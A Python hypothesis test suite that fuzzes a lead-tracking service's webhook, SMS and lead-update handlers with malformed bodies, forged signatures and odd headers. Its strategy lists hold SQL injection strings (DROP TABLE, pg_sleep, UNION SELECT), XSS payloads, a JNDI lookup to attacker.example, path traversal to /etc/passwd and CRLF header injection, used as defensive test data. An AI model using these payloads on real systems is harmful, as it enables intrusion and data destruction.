"""Hostile input, property-based (hypothesis), over every route of every handler.

Random and malformed bodies, wrong JSON types, invalid UTF-8 (base64 bodies), deep nesting,
bodies over MAX_BODY_BYTES, odd headers and query strings, every kind of phone string, SQL
and script injection. The properties: never a 5xx; every rejection is JSON {"message": ...};
a rejected request writes nothing (every table's row count and row versions unchanged).
"""

from __future__ import annotations

import base64
import copy
import json
import os
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlencode

import pg8000.native
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devkit.postcall_events import sign_elevenlabs
from devkit.sms_events import set_params, sign_event
from leadlookup.config import DEFAULT_ORGANIZATION_ID
from tests.support.db import connect
from tests.support.faults import (
    Figures,
    Invoke,
    dynamic_variables,
    insert_lead,
    leads_for,
    message_counts,
    new_phone,
    rejection_message,
    reset_container,
    sample,
    sms_event,
    sms_fields,
    sqs_record,
    table_state,
)

MAX_BODY_BYTES = 2048
# Small and fixed for CI (the same examples every run); FAULTS_EXAMPLES=500 FAULTS_RANDOM=1
# explores further.
EXAMPLES = int(os.environ.get("FAULTS_EXAMPLES", "40"))
HOSTILE = settings(
    max_examples=EXAMPLES,
    derandomize=os.environ.get("FAULTS_RANDOM") != "1",
    database=None,
    deadline=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)

# -- strategies ----------------------------------------------------------------------------------

SQL_INJECTION = [
    "' OR '1'='1",
    "'; DROP TABLE leads; --",
    '"; DELETE FROM messages; --',
    "1); DELETE FROM call_summaries WHERE (1=1",
    "'||pg_sleep(5)||'",
    "$$; DROP TABLE organizations; $$",
    "E'\\\\x00'",
    "\\'; SELECT 1; --",
    "' UNION SELECT id, name FROM organizations --",
    ":phone_normalized",
    "%(id)s",
    "{id}",
    "\x00",
    "a\x00b",
]
SCRIPT_INJECTION = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.cookie)",
    "${jndi:ldap://attacker.example/x}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=1",
    "\u202e\u0644\u200f",
    "\ufeff\ufffe",
    "🚲" * 40,
]
# "+16045550142" in fullwidth forms, which phonenumbers reads as digits.
FULLWIDTH_NUMBER = "".join(chr(ord(c) + 0xFEE0) for c in "+16045550142")
PHONE_STRINGS = [
    "+16045550142", "16045550142", "6045550142", "(604) 555-0142", "604.555.0142",
    "+1 604 555 0142", "tel:+16045550142", "sms:+16045550142", "whatsapp:+16045550142",
    "client:alice", "anonymous", "Anonymous", "+266696687", "+7378742833", "+8656696",
    "+2562533", "", " ", "+", "+1", "0", "911", "+16045550142 ext. 12", "+16045550142;ext=1",
    "+16045550142x9", "٦٠٤٥٥٥٠١٤٢", FULLWIDTH_NUMBER, "+1604555014\x00", "+1" + "6" * 200,
    "+44 20 7946 0958", "+61 2 5550 1234", "+8613800138000", "22395", "BICI", "+1-800-FLOWERS",
    "+17786528784", "17786528784",
]  # fmt: skip
phones = st.one_of(
    st.sampled_from(PHONE_STRINGS),
    st.from_regex(r"(tel:|sms:)?[+]?[0-9 ().-]{0,24}", fullmatch=True),
    st.text(max_size=30),
)
lone_surrogates = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF).map(lambda c: f"x{c}")
form_text = st.one_of(
    st.sampled_from(SQL_INJECTION + SCRIPT_INJECTION), phones, st.text(max_size=60)
)
hostile_text = st.one_of(form_text, lone_surrogates)


def json_of(text: st.SearchStrategy[str]) -> st.SearchStrategy[Any]:
    """Any JSON value (NaN and Infinity included) whose strings come from ``text``."""
    return st.recursive(
        st.none()
        | st.booleans()
        | st.integers(min_value=-(2**70), max_value=2**70)
        | st.floats()
        | text,
        lambda children: (
            st.lists(children, max_size=3) | st.dictionaries(text, children, max_size=3)
        ),
        max_leaves=8,
    )


json_values = json_of(hostile_text)
# Without lone surrogates, whose escapes (\ud800) are valid JSON text: tested on their own below.
unicode_json_values = json_of(form_text)


def objects(keys: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    """JSON objects with (some of) ``keys`` holding anything, plus stray keys."""
    wanted = st.fixed_dictionaries({}, optional={key: json_values for key in keys})
    stray = st.dictionaries(hostile_text, json_values, max_size=2)
    return st.builds(lambda a, b: {**b, **a}, wanted, stray)


def nested(depth: int, kind: int) -> str:
    if kind == 0:
        return "[" * depth + "]" * depth
    if kind == 1:
        return '{"a":' * depth + "1" + "}" * depth
    return '{"caller_id":' + "[" * depth + '"+16045550142"' + "]" * depth + "}"


def dumps(value: Any) -> str:
    return json.dumps(value)  # NaN and Infinity included: not JSON, sent anyway


# A body is (text, isBase64Encoded).
def bodies(keys: list[str]) -> st.SearchStrategy[tuple[str, bool]]:
    """Every kind of body a route may be sent."""
    return st.one_of(
        objects(keys).map(lambda v: (dumps(v), False)),
        json_values.map(lambda v: (dumps(v), False)),
        st.text(max_size=200).map(lambda t: (t, False)),
        st.tuples(st.integers(33, 3000), st.integers(0, 2)).map(lambda a: (nested(*a), False)),
        st.integers(1, 3).map(lambda n: ('{"x":"' + "x" * (MAX_BODY_BYTES * n) + '"}', False)),
        st.binary(max_size=120).map(lambda b: (base64.b64encode(b).decode(), True)),
        st.sampled_from(["%%%", "not base64!", "YQ", "====", "\u00e9"]).map(lambda t: (t, True)),
        st.just(("", False)),
    )


header_names = st.text(
    alphabet=st.characters(min_codepoint=33, max_codepoint=126, exclude_characters=":"),
    min_size=1,
    max_size=24,
)
odd_headers = st.dictionaries(header_names, form_text, max_size=4)
queries = st.dictionaries(st.text(max_size=12), form_text, max_size=3)
methods = st.sampled_from(["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE"])


def with_request(
    event: dict[str, Any],
    body: tuple[str, bool] | None,
    headers: dict[str, str],
    query: dict[str, str],
) -> dict[str, Any]:
    """``event`` with another body, extra headers and query string."""
    changed = copy.deepcopy(event)
    if body is not None:
        changed["body"], changed["isBase64Encoded"] = body
    for name, value in headers.items():
        changed["headers"].setdefault(name.lower(), value)
    if query:
        changed["queryStringParameters"] = query
        changed["rawQueryString"] = urlencode(query, errors="surrogatepass")
    return changed


def at_path(event: dict[str, Any], method: str, path: str) -> dict[str, Any]:
    changed = copy.deepcopy(event)
    changed["rawPath"] = changed["requestContext"]["http"]["path"] = path
    changed["requestContext"]["http"]["method"] = method
    changed["routeKey"] = changed["requestContext"]["routeKey"] = f"{method} {path}"
    return changed


# -- fixtures and checks ----------------------------------------------------------------------


@pytest.fixture
def hostile_env(fault_env: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """A small MAX_BODY_BYTES (413 is cheap to reach); a fresh container."""
    monkeypatch.setenv("MAX_BODY_BYTES", str(MAX_BODY_BYTES))
    monkeypatch.setenv("INITIATION_DEADLINE_MS", "5000")  # the deadline is not under test here
    reset_container()
    return fault_env


@pytest.fixture
def db(database_url: str) -> Iterator[pg8000.native.Connection]:
    conn = connect(database_url)
    yield conn
    conn.close()


class Checker:
    """Sends hostile requests and holds every answer to the properties."""

    def __init__(self, invoke: Invoke, db: pg8000.native.Connection, figures: Figures) -> None:
        self.invoke = invoke
        self.db = db
        self.figures = figures
        self.statuses: Counter[str] = Counter()

    def http(self, function_dir: str, event: dict[str, Any], allowed: set[int]) -> dict[str, Any]:
        """Invoke; never a 5xx, only ``allowed``, rejections JSON, rejections write nothing."""
        before = table_state(self.db)
        started = time.perf_counter()
        response = self.invoke(function_dir, event)
        elapsed = (time.perf_counter() - started) * 1000
        status = response["statusCode"]
        self.statuses[str(status)] += 1
        rejected = status >= 400
        problem = ""
        if status >= 500 or status not in allowed:
            problem = f"status {status}"
        elif rejected and rejection_message(response) is None:
            problem = "rejection is not JSON {message}"
        elif rejected and table_state(self.db) != before:
            problem = "a rejected request wrote"
        self.figures.record("hostile", elapsed, not problem, f"{problem}: {response}")
        self.figures.notes["statuses"] = dict(sorted(self.statuses.items()))
        assert not problem, (problem, response, event)
        return response


@pytest.fixture
def checker(
    hostile_env: dict[str, str], invoke: Invoke, db: pg8000.native.Connection, figures: Figures
) -> Checker:
    figures.fault = "hostile input (hypothesis)"
    return Checker(invoke, db, figures)


# -- the routes ----------------------------------------------------------------------------------

INITIATION_KEYS = ["caller_id", "called_number", "agent_id", "call_sid"]
SECRET = "test-initiation-secret"


@HOSTILE
@given(
    body=st.one_of(
        bodies(INITIATION_KEYS),
        st.fixed_dictionaries({"caller_id": phones, "called_number": phones}).map(
            lambda v: (dumps(v), False)
        ),
    ),
    secret=st.one_of(st.just(SECRET), st.just(None), form_text),
    headers=odd_headers,
    query=queries,
)
def test_hostile_initiation_webhook(
    checker: Checker, body: tuple[str, bool], secret: str | None, headers: Any, query: Any
) -> None:
    event = with_request(sample("conversation_initiation/known_caller"), body, headers, query)
    if secret is None:
        event["headers"].pop("x-webhook-secret")
    else:
        event["headers"]["x-webhook-secret"] = secret

    response = checker.http("conversation_initiation", event, {200, 400, 401, 413})

    if response["statusCode"] == 200:
        assert dynamic_variables(response) is not None, response


SMS_FIELDS = ["MessageSid", "From", "To", "Body", "AccountSid", "OptOutType", "NumMedia"]


def form_pairs() -> st.SearchStrategy[list[tuple[str, str]]]:
    sid = st.one_of(st.builds(lambda: "SM" + uuid.uuid4().hex), st.just(None), form_text)
    return st.builds(
        lambda sid, sender, to, text, extra: [
            *([("MessageSid", sid)] if sid is not None else []),
            ("From", sender),
            ("To", to),
            ("Body", text),
            *extra,
        ],
        sid,
        phones.filter(lambda t: not any(0xD800 <= ord(c) <= 0xDFFF for c in t)),
        st.sampled_from(["+17786528784", "+16045550100", "", "BICI"]),
        form_text,
        st.lists(
            st.tuples(st.sampled_from(SMS_FIELDS) | st.text(max_size=8), form_text), max_size=3
        ),
    )


@HOSTILE
@given(
    signed=form_pairs(),
    unsigned=bodies(SMS_FIELDS),
    how=st.one_of(
        st.just("signed"), st.sampled_from(["forged", "truncated", "garbage", "none", "raw"])
    ),
    garbage=form_text,
    headers=odd_headers,
    query=queries,
)
def test_hostile_sms_webhook(
    checker: Checker,
    signed: list[tuple[str, str]],
    unsigned: tuple[str, bool],
    how: str,
    garbage: str,
    headers: Any,
    query: Any,
) -> None:
    event = with_request(sample("sms_webhook/signed"), None, headers, query)
    set_params(event, signed)
    sign_event(event, "test-twilio-auth-token" if how != "forged" else "not-the-token")
    if how == "raw":  # a body other than the one signed
        event["body"], event["isBase64Encoded"] = unsigned
    signature = event["headers"]["x-twilio-signature"]
    if how == "truncated":
        event["headers"]["x-twilio-signature"] = signature[:-2]
    elif how == "garbage":
        event["headers"]["x-twilio-signature"] = garbage
    elif how == "none":
        event["headers"].pop("x-twilio-signature")

    response = checker.http("sms_webhook", event, {200, 400, 403, 413})

    if how in ("forged", "truncated", "none"):
        assert response["statusCode"] in (403, 413), response


STATUS_VALUES = ["queued", "sent", "delivered", "undelivered", "failed", "read", "Delivered"]


def status_pairs() -> st.SearchStrategy[list[tuple[str, str]]]:
    sid = st.one_of(st.builds(lambda: "SM" + uuid.uuid4().hex), st.just(None), form_text)
    status = st.one_of(st.sampled_from(STATUS_VALUES), st.just(None), form_text)
    code = st.one_of(st.just(None), st.sampled_from(["30007", "21610", "", "-1"]), form_text)
    return st.builds(
        lambda sid, status, code, extra: [
            *([("MessageSid", sid)] if sid is not None else []),
            *([("MessageStatus", status)] if status is not None else []),
            *([("ErrorCode", code)] if code is not None else []),
            *extra,
        ],
        sid,
        status,
        code,
        st.lists(st.tuples(st.text(max_size=8), form_text), max_size=3),
    )


@HOSTILE
@given(
    signed=status_pairs(),
    how=st.sampled_from(["signed", "signed", "forged", "none"]),
    headers=odd_headers,
)
def test_hostile_delivery_status_webhook(
    checker: Checker, signed: list[tuple[str, str]], how: str, headers: Any
) -> None:
    event = with_request(sample("twilio_status/delivered"), None, headers, {})
    set_params(event, signed)
    sign_event(event, "test-twilio-auth-token" if how != "forged" else "not-the-token")
    if how == "none":
        event["headers"].pop("x-twilio-signature")
    before = table_state(checker.db)

    response = checker.http("sms_webhook", event, {200, 400, 403, 413})

    if how != "signed":
        assert response["statusCode"] in (403, 413), response
    # A status for a text nobody sent changes nothing, accepted or not.
    assert table_state(checker.db) == before


@HOSTILE
@given(
    messages=st.lists(
        st.one_of(
            objects(["kind", "message_sid", "status", "error_code"]).map(
                lambda o: {**o, "kind": "delivery_status"}
            ),
            json_values,
        ),
        min_size=1,
        max_size=4,
    ),
)
def test_hostile_outcome_records(checker: Checker, messages: list[Any]) -> None:
    template = sample("sms_outcome/sqs_delivery_status")["Records"][0]
    event: dict[str, list[dict[str, Any]]] = {"Records": []}
    for n, message in enumerate(messages):
        try:
            body = json.dumps(message)
        except ValueError:
            body = str(message)
        event["Records"].append({**template, "messageId": f"hostile-{n}", "body": body})
    before = table_state(checker.db)

    result = checker.invoke("sms_outcome", event)

    assert set(result) == {"batchItemFailures"}
    failed = {item["itemIdentifier"] for item in result["batchItemFailures"]}
    assert failed <= {r["messageId"] for r in event["Records"]}
    if all(isinstance(m, dict) and m.get("kind") == "delivery_status" for m in messages):
        # Updates for texts that do not exist: nothing is written, whatever they hold.
        assert table_state(checker.db) == before


organization_ids = st.one_of(
    st.just(DEFAULT_ORGANIZATION_ID), st.uuids().map(str), form_text, lone_surrogates
)


@HOSTILE
@given(
    query=st.one_of(
        queries,
        st.fixed_dictionaries({"phone": phones, "organization_id": organization_ids}),
        st.builds(
            lambda phone: {"phone": phone, "organization_id": DEFAULT_ORGANIZATION_ID},
            st.sampled_from(["+16045550142", "(604) 555-0142", "tel:+16045550142", "6045550142"]),
        ),
    ),
    headers=odd_headers,
)
def test_hostile_get_lead_by_phone(checker: Checker, query: dict[str, str], headers: Any) -> None:
    event = with_request(sample("lead_update/list_by_phone"), None, headers, {})
    event["queryStringParameters"] = query or None
    event["rawQueryString"] = urlencode(query, errors="surrogatepass")

    checker.http("lead_update", event, {200, 400, 404})


lead_ids = st.one_of(
    st.uuids().map(str),
    st.text(
        alphabet=st.characters(exclude_characters="/?#", exclude_categories=["Cs"]), max_size=40
    ),
    st.sampled_from(SQL_INJECTION[:9] + SCRIPT_INJECTION[:5]),
)


@HOSTILE
@given(
    lead_id=lead_ids, method=st.sampled_from(["GET", "DELETE"]), headers=odd_headers, query=queries
)
def test_hostile_get_and_delete_lead(
    checker: Checker, lead_id: str, method: str, headers: Any, query: Any
) -> None:
    name = "lead_update/get" if method == "GET" else "lead_update/delete"
    event = with_request(sample(name), None, headers, query)
    path = "/leads/" + quote(lead_id, safe="", errors="surrogatepass")
    event["rawPath"] = event["requestContext"]["http"]["path"] = path
    event["pathParameters"] = {"lead_id": lead_id}

    # Random ids: never the id of a lead that exists, so DELETE can only be refused.
    checker.http("lead_update", event, {400, 404})


PATCH_KEYS = ["customer_name", "email", "status", "sentiment", "bike_interest"]
PATCH_KEYS += ["qualification_data", "notes", "version", "id", "phone_number"]


@pytest.fixture
def target(checker: Checker, database_url: str) -> str:
    """The lead hostile PATCHes aim at."""
    return insert_lead(database_url, new_phone(), DEFAULT_ORGANIZATION_ID)


patch_values = {
    "customer_name": st.one_of(st.none(), form_text, unicode_json_values),
    "email": st.one_of(st.none(), form_text),
    "status": st.one_of(
        st.sampled_from(["new", "contacted", "qualified", "hot", "customer", "closed", "vip"]),
        st.none(),
        unicode_json_values,
    ),
    "sentiment": st.one_of(
        st.sampled_from(["positive", "neutral", "negative", "angry"]), unicode_json_values
    ),
    "bike_interest": st.one_of(
        st.dictionaries(form_text, unicode_json_values, max_size=3), unicode_json_values
    ),
    "qualification_data": st.dictionaries(form_text, unicode_json_values, max_size=3),
    "notes": st.one_of(st.none(), form_text),
}
merge_patches = st.fixed_dictionaries({}, optional=patch_values).map(lambda v: (dumps(v), False))


@HOSTILE
@given(
    body=bodies(PATCH_KEYS),
    content_type=st.sampled_from(
        [
            "application/merge-patch+json",
            "application/json",
            "APPLICATION/JSON; charset=utf-8",
            "application/merge-patch+json",
            "text/plain",
            "",
            None,
            "application/json-patch+json",
        ]
    ),
    if_match=st.one_of(st.none(), st.sampled_from(['"1"', "1", 'W/"1"', "*", '"999"']), form_text),
    elsewhere=st.one_of(st.none(), lead_ids),
    headers=odd_headers,
)
def test_hostile_patch_lead(
    checker: Checker,
    target: str,
    body: tuple[str, bool],
    content_type: str | None,
    if_match: str | None,
    elsewhere: str | None,
    headers: Any,
) -> None:
    event = with_request(sample("lead_update/patch_valid"), body, headers, {})
    lead_id = elsewhere if elsewhere is not None else target
    event["rawPath"] = event["requestContext"]["http"]["path"] = "/leads/" + quote(
        lead_id, safe="", errors="surrogatepass"
    )
    event["pathParameters"] = {"lead_id": lead_id}
    event["headers"].pop("if-match")
    event["headers"].pop("content-type")
    if if_match is not None:
        event["headers"]["if-match"] = if_match
    if content_type is not None:
        event["headers"]["content-type"] = content_type

    checker.http("lead_update", event, {200, 400, 404, 412, 413, 415})


@HOSTILE
@given(
    body=merge_patches,
    media_type=st.sampled_from(["application/merge-patch+json", "application/json"]),
)
def test_hostile_patch_lead_field_values(
    checker: Checker, target: str, body: tuple[str, bool], media_type: str
) -> None:
    event = with_request(sample("lead_update/patch_valid"), body, {}, {})
    event["rawPath"] = event["requestContext"]["http"]["path"] = f"/leads/{target}"
    event["pathParameters"] = {"lead_id": target}
    event["headers"].pop("if-match")
    event["headers"]["content-type"] = media_type

    response = checker.http("lead_update", event, {200, 400})

    if response["statusCode"] == 200:
        assert json.loads(response["body"])["id"] == target


POST_CALL_KEYS = ["type", "data", "event_timestamp"]


def post_call_bodies() -> st.SearchStrategy[str]:
    """Real-shaped post-call payloads with hostile values here and there, or anything else."""
    real = json.loads(sample("post_call_webhook/post_call_signed")["body"])

    def mutate(values: dict[str, Any]) -> str:
        body = copy.deepcopy(real)
        data = body["data"]
        data["conversation_id"] = values.pop("conversation_id", f"conv_h_{uuid.uuid4().hex}")
        results = data["analysis"]["data_collection_results"]
        # Whole sections last: the fields above live inside them.
        for name, value in sorted(values.items(), key=lambda kv: kv[0] in ("analysis", "metadata")):
            if name in results:
                results[name]["value"] = value
            elif name == "lead_id":
                data["conversation_initiation_client_data"]["dynamic_variables"]["lead_id"] = value
            elif name == "external_number":
                data["metadata"]["phone_call"]["external_number"] = value
            else:
                data[name] = value
        return dumps(body)

    fields = ["customer_name", "bike_type", "budget_range", "purchase_timeline"]
    fields += ["call_classification", "lead_id", "external_number", "conversation_id"]
    fields += ["analysis", "metadata"]
    mutated = st.fixed_dictionaries({}, optional={f: json_values for f in fields}).map(mutate)
    return st.one_of(mutated, bodies(POST_CALL_KEYS).map(lambda b: b[0]))


@HOSTILE
@given(
    body=post_call_bodies(),
    how=st.sampled_from(["signed", "forged", "truncated", "expired", "future", "garbage", "none"]),
    garbage=form_text,
    headers=odd_headers,
)
def test_hostile_post_call_webhook(
    checker: Checker, body: str, how: str, garbage: str, headers: Any
) -> None:
    event = with_request(sample("post_call_webhook/post_call_signed"), (body, False), headers, {})
    now = int(time.time())
    at = {"expired": now - 31 * 60, "future": now + 6 * 60}.get(how, now)
    secret = "not-the-secret" if how == "forged" else "test-elevenlabs-secret"
    try:
        signature = sign_elevenlabs(body, secret, at)
    except UnicodeEncodeError:  # a lone surrogate: no client can send that body at all
        return
    if how == "truncated":
        signature = signature[:-3]
    elif how == "garbage":
        signature = garbage
    event["headers"]["elevenlabs-signature"] = signature
    if how == "none":
        event["headers"].pop("elevenlabs-signature")

    response = checker.http("post_call_webhook", event, {200, 400, 401, 413})

    if how != "signed":
        assert response["statusCode"] in (401, 413), response


# The post-call processor's record: PostCall.to_json() (what the webhook queues).
POST_CALL_MESSAGE_KEYS = [
    "conversation_id", "payload", "lead_id", "external_number", "agent_number", "agent_name",
    "summary", "classification", "status", "customer_name", "bike_interest",
    "qualification_data", "channel", "reached", "callback_requested",
]  # fmt: skip


@HOSTILE
@given(
    messages=st.lists(
        st.one_of(objects(POST_CALL_MESSAGE_KEYS), json_values), min_size=1, max_size=4
    ),
    raw=st.one_of(
        st.none(), st.text(max_size=40), st.integers(5, 3000).map(lambda n: nested(n, 0))
    ),
)
def test_hostile_post_call_processor_records(
    checker: Checker, messages: list[Any], raw: str | None
) -> None:
    template = sample("post_call_processor/sqs_batch")["Records"][0]
    event: dict[str, list[dict[str, Any]]] = {"Records": []}
    for n, message in enumerate(messages):
        try:
            body = json.dumps(message)
        except ValueError:
            body = str(message)
        event["Records"].append({**template, "messageId": f"hostile-{n}", "body": body})
    if raw is not None:
        event["Records"].append({**template, "messageId": "raw", "body": raw})
    before = table_state(checker.db)
    started = time.perf_counter()

    result = checker.invoke("post_call_processor", event)

    elapsed = (time.perf_counter() - started) * 1000
    failed = {item["itemIdentifier"] for item in result["batchItemFailures"]}
    checker.statuses["failed_records"] += len(failed)
    checker.statuses["records"] += len(event["Records"])
    checker.figures.record("hostile", elapsed, set(result) == {"batchItemFailures"}, str(result))
    checker.figures.notes["statuses"] = dict(sorted(checker.statuses.items()))
    ids = {r["messageId"] for r in event["Records"]}
    assert failed <= ids
    if failed == ids:
        assert table_state(checker.db) == before


@HOSTILE
@given(
    method=methods,
    path=st.one_of(
        st.sampled_from(["/", "/leads/", "/leads/a/b", "/webhooks", "/webhooks/twilio/sms/x"]),
        st.text(max_size=30).map(lambda t: "/" + quote(t, safe="/")),
    ),
    function_dir=st.sampled_from(
        ["conversation_initiation", "sms_webhook", "lead_update", "post_call_webhook"]
    ),
)
def test_hostile_unknown_routes_are_json_404(
    checker: Checker, method: str, path: str, function_dir: str
) -> None:
    known = {
        ("POST", "/webhooks/elevenlabs/conversation-initiation"),
        ("POST", "/webhooks/twilio/sms"),
        ("POST", "/webhooks/twilio/status"),
        ("POST", "/webhooks/elevenlabs/post-call"),
        ("GET", "/leads"),
    }
    if (method, path) in known or (path.startswith("/leads/") and path.count("/") == 2):
        return
    event = at_path(sample("lead_update/get"), method, path)

    checker.http(function_dir, event, {404})


@HOSTILE
@given(
    records=st.lists(
        st.one_of(
            form_pairs().map(dict),
            objects(SMS_FIELDS),
            json_values,
        ),
        min_size=1,
        max_size=4,
    ),
    raw=st.one_of(
        st.none(), st.text(max_size=40), st.integers(5, 3000).map(lambda n: nested(n, 0))
    ),
)
def test_hostile_sms_processor_records(
    checker: Checker, records: list[Any], raw: str | None
) -> None:
    event: dict[str, list[dict[str, Any]]] = {"Records": []}
    for fields in records:
        record = sqs_record(fields if isinstance(fields, dict) else {"MessageSid": "x"})
        try:
            record["body"] = json.dumps(fields)
        except ValueError:
            record["body"] = str(fields)
        event["Records"].append(record)
    if raw is not None:
        event["Records"].append(sqs_record({"MessageSid": "raw"}) | {"body": raw})
    before = table_state(checker.db)
    started = time.perf_counter()

    result = checker.invoke("sms_processor", event)

    elapsed = (time.perf_counter() - started) * 1000
    failed = {item["itemIdentifier"] for item in result["batchItemFailures"]}
    checker.statuses["failed_records"] += len(failed)
    checker.statuses["records"] += len(event["Records"])
    checker.figures.record("hostile", elapsed, set(result) == {"batchItemFailures"}, str(result))
    checker.figures.notes["statuses"] = dict(sorted(checker.statuses.items()))
    ids = {r["messageId"] for r in event["Records"]}
    assert failed <= ids
    if failed == ids:
        assert table_state(checker.db) == before


@HOSTILE
@given(
    event=st.one_of(
        json_values,
        st.fixed_dictionaries(
            {"action": st.sampled_from(["status", "flush_lead", "flush_org", "purge", ""])},
            optional={"phone": phones, "organization_id": form_text},
        ),
        st.fixed_dictionaries(
            {"action": st.just("upsert_org")},
            optional={"organization": objects(["name", "phone_number", "settings"])},
        ),
        objects(["action", "phone", "organization_id", "organization"]),
    )
)
def test_hostile_cache_admin_events(checker: Checker, event: Any) -> None:
    organization = event.get("organization") if isinstance(event, dict) else None
    if isinstance(organization, dict):
        organization["id"] = str(uuid.uuid4())  # never overwrite a real store
    started = time.perf_counter()

    result = checker.invoke("cache_admin", event)

    elapsed = (time.perf_counter() - started) * 1000
    created = result.get("ok") and result.get("action") == "upsert_org"
    if created:  # a valid store was made: take it away again, other tests dial numbers
        checker.db.run("DELETE FROM organizations WHERE id = :id", id=result["result"]["id"])
    well_formed = result.get("ok") is True or (
        result.get("ok") is False and isinstance(result.get("message"), str)
    )
    checker.statuses["ok" if result.get("ok") else str(result.get("status"))] += 1
    checker.figures.notes["statuses"] = dict(sorted(checker.statuses.items()))
    checker.figures.record("hostile", elapsed, well_formed, str(result))
    assert well_formed, result


def test_hostile_sms_with_a_nul_character_is_stored_once(
    checker: Checker, database_url: str
) -> None:
    # Found by this suite: the processor refused such a message until the dead-letter queue,
    # after creating its lead. PostgreSQL text cannot hold NUL; the message is kept without it.
    sender = new_phone()
    fields = dict(sms_fields(sms_event(sender, "Do you rent\x00 e-bikes?")))
    record = sqs_record(fields)

    result = checker.invoke("sms_processor", {"Records": [record]})
    again = checker.invoke("sms_processor", {"Records": [sqs_record(fields)]})
    for answer in (result, again):
        checker.figures.record("hostile", 0.0, answer == {"batchItemFailures": []}, str(answer))

    assert result == again == {"batchItemFailures": []}
    assert message_counts(database_url, [fields["MessageSid"]]) == {fields["MessageSid"]: 1}
    assert len(leads_for(database_url, sender)) == 1


@pytest.mark.parametrize(
    "body",
    [
        '{"notes": "x\\ud800"}',
        '{"customer_name": "\\udfff"}',
        '{"qualification_data": {"budget\\ud800": 1}}',
    ],
)
def test_hostile_patch_with_a_lone_surrogate_is_400_and_writes_nothing(
    checker: Checker, target: str, body: str
) -> None:
    event = with_request(sample("lead_update/patch_valid"), (body, False), {}, {})
    event["rawPath"] = event["requestContext"]["http"]["path"] = f"/leads/{target}"
    event["pathParameters"] = {"lead_id": target}
    event["headers"].pop("if-match")

    checker.http("lead_update", event, {400})
